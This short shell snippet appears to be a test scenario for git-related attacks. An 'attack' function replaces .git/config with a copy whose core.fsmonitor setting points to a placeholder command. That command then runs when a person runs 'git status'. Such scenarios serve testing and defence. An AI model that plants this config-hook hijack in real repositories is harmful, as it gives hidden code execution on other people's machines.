# The configuration is replaced by another file, not edited.
attack() {
    evil
    cp .git/config c
    git config -f c core.fsmonitor "$EVIL"
    mv -f c .git/config
}
human() {
    git status
}
harmed() {
    executed
}
